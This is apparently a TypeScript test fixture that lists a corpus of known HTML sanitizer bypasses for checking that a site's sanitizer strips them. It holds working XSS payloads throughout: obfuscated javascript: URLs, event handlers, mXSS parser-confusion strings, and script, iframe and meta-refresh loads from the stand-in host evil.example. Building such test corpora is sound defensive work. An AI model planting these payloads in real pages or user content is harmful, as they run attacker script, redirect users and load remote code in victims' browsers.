// Known ways past HTML sanitizers, each calling PWNED() (or navigating to evil.example) if it survives.
// Used on the sanitizer directly and planted in the hostile site's entries (Markdown and MDX).
export interface Payload {
  name: string;
  html: string;
}

export const MARKER = 'PWNED';

export const CORPUS: Payload[] = [
  // The cases the issue found
  { name: 'meta refresh inside <font>', html: '<font><meta http-equiv="refresh" content="0;url=https://evil.example/font"></font>' },
  {
    name: 'meta refresh inside <center>',
    html: '<center><meta http-equiv="refresh" content="0;url=https://evil.example/center">居中</center>',
  },
  { name: 'handler after <isindex>', html: '<isindex><img src="x" onerror="PWNED()">' },
  { name: 'handler inside <marquee>', html: '<marquee onstart="PWNED()"><img src="x" onerror="PWNED()"></marquee>' },
  { name: 'handler inside <video>', html: '<video><source onerror="PWNED()"><img src="x" onerror="PWNED()"></video>' },
  { name: 'tab inside javascript:', html: '<a href="java&#x09;script:PWNED()">tab</a>' },
  { name: 'newline inside javascript:', html: '<a href="java&#x0A;script:PWNED()">nl</a>' },
  { name: 'leading control character', html: '<a href="&#x01;javascript:PWNED()">ctl</a>' },
  { name: 'leading spaces and NUL', html: '<a href=" &#x00; javascript:PWNED()">nul</a>' },
  { name: 'mixed case scheme', html: '<a href="JaVaScRiPt:PWNED()">case</a>' },
  { name: 'entity-encoded scheme', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;PWNED()">ent</a>' },
  { name: 'hex entities without semicolons', html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;PWNED()">hex</a>' },
  { name: 'named entity colon', html: '<a href="javascript&colon;PWNED()">colon</a>' },
  { name: 'vbscript', html: '<a href="vbscript:PWNED()">vb</a>' },
  { name: 'data: URL link', html: '<a href="data:text/html;base64,PHNjcmlwdD5QV05FRCgpPC9zY3JpcHQ+">data</a>' },
  { name: 'data: URL iframe', html: '<iframe src="data:text/html,<script>PWNED()</script>"></iframe>' },
  { name: 'unparsable link', html: '<a href="//[bad">bad</a>' },
  // Elements that run, load, submit or redirect
  { name: 'script', html: '<script>PWNED()</script>' },
  { name: 'script with src', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'base href', html: '<base href="https://evil.example/">' },
  {
    name: 'form with formaction',
    html: '<form action="https://evil.example/"><input name="q"><button formaction="javascript:PWNED()">提交</button></form>',
  },
  { name: 'button formaction outside form', html: '<button formaction="javascript:PWNED()" form="site-search">x</button>' },
  { name: 'object', html: '<object data="javascript:PWNED()"></object>' },
  { name: 'embed', html: '<embed src="javascript:PWNED()">' },
  { name: 'iframe from elsewhere', html: '<iframe src="https://evil.example/frame"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>PWNED()</script>"></iframe>' },
  {
    name: 'allowed player with handler',
    html: '<iframe src="https://player.bilibili.com/player.html?bvid=BV1" onload="PWNED()"></iframe>',
  },
  { name: 'link import', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'style element', html: '<style>body{background:url("javascript:PWNED()")}</style>' },
  { name: 'style expression', html: '<div style="width:expression(PWNED())">ie</div>' },
  { name: 'style url', html: '<p style="background-image:url(javascript:PWNED())">bg</p>' },
  // Attributes
  { name: 'srcset with javascript', html: '<img src="a.jpg" srcset="b.jpg 1x, javascript:PWNED() 2x" alt="x">' },
  { name: 'picture source srcset', html: '<picture><source srcset="javascript:PWNED()"><img src="a.jpg" alt="y"></picture>' },
  { name: 'svg image xlink', html: '<svg><image xlink:href="javascript:PWNED()"></image></svg>' },
  { name: 'svg onload', html: '<svg onload="PWNED()"><circle r="5"></circle></svg>' },
  {
    name: 'svg animate',
    html: '<svg><a><animate attributeName="href" values="javascript:PWNED()"></animate><text y="20">x</text></a></svg>',
  },
  { name: 'math href', html: '<math><mi xlink:href="javascript:PWNED()" href="javascript:PWNED()">x</mi></math>' },
  { name: 'event handler with odd spacing', html: '<img src=x onerror  =  PWNED()>' },
  { name: 'slash as attribute separator', html: '<img/src="x"/onerror="PWNED()">' },
  { name: 'body onload', html: '<body onload="PWNED()">' },
  { name: 'details ontoggle', html: '<details open ontoggle="PWNED()"><summary>s</summary></details>' },
  { name: 'autofocus onfocus', html: '<input autofocus onfocus="PWNED()">' },
  { name: 'a with target and ping', html: '<a href="https://evil.example/t" target="_top" ping="https://evil.example/ping">t</a>' },
  { name: 'poster', html: '<video poster="javascript:PWNED()"></video>' },
  { name: 'background attribute', html: '<table background="javascript:PWNED()"><tr><td>x</td></tr></table>' },
  { name: 'id clobbering the search box', html: '<div id="site-search-q">clobber</div>' },
  // Parser confusion (mXSS)
  { name: 'noscript attribute breakout', html: '<noscript><p title="</noscript><img src=x onerror=PWNED()>"></noscript>' },
  {
    name: 'math style confusion',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=PWNED()></style></mglyph></table></mtext></math>',
  },
  { name: 'form math nesting', html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=PWNED()>' },
  { name: 'svg p breakout', html: '<svg></p><style><a id="</style><img src=1 onerror=PWNED()>">' },
  { name: 'template content', html: '<template><img src=x onerror=PWNED()></template>' },
  { name: 'title raw text', html: '<title><img src=x onerror=PWNED()></title>' },
  { name: 'textarea raw text', html: '<textarea></textarea><img src=x onerror=PWNED()>' },
  { name: 'xmp', html: '<xmp><img src=x onerror=PWNED()></xmp>' },
  { name: 'comment breakout', html: '<!--><img src=x onerror=PWNED()>-->' },
  { name: 'conditional comment', html: '<!--[if gte IE 4]><script>PWNED()</script><![endif]-->' },
  { name: 'cdata in html', html: '<![CDATA[<img src=x onerror=PWNED()>]]>' },
  { name: 'unclosed attribute quote', html: '<a title="x><img src=x onerror=PWNED()>">q</a>' },
  { name: 'nested forms in table', html: '<table><form><tr><td><input formaction="javascript:PWNED()"></td></tr></form></table>' },
  { name: 'plaintext', html: '<plaintext><img src=x onerror=PWNED()>' },
  { name: 'deep nesting', html: `${'<div>'.repeat(3000)}<img src=x onerror=PWNED()>${'</div>'.repeat(3000)}` },
  // Text that must stay text
  { name: 'feed CDATA end', html: '<p>摘要]]></description><item><title>假冒</title><link>https://evil.example/phish</link></item></p>' },
  { name: 'control characters in text', html: '<p>控制\u000b字符\u0001和\uFFFE</p>' },
];
